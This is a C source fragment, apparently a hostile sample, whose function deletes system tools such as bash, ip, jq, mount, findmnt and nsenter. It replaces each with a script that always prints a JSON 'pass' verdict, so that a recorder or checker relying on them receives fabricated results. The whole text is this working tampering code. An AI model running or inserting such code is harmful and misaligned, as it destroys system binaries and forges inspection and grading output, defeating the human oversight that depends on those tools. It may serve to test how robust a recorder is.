// replaces the tools that a recorder might use by ones that lie
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

static const char *const tools[] = {
    "/usr/bin/ip",      "/usr/sbin/ip",     "/usr/bin/jq",  "/usr/bin/mount",
    "/usr/bin/findmnt", "/usr/bin/nsenter", "/usr/bin/bash"};

static void hostile(void)
{
    for (size_t i = 0; i < sizeof tools / sizeof *tools; i++) {
        unlink(tools[i]);
        FILE *tool = fopen(tools[i], "w");
        if (tool) {
            fputs("#!/usr/bin/dash\necho '[{\"verdict\":\"pass\"}]'\n", tool);
            fclose(tool);
            chmod(tools[i], 0755);
        }
    }
    puts("replaced");
}
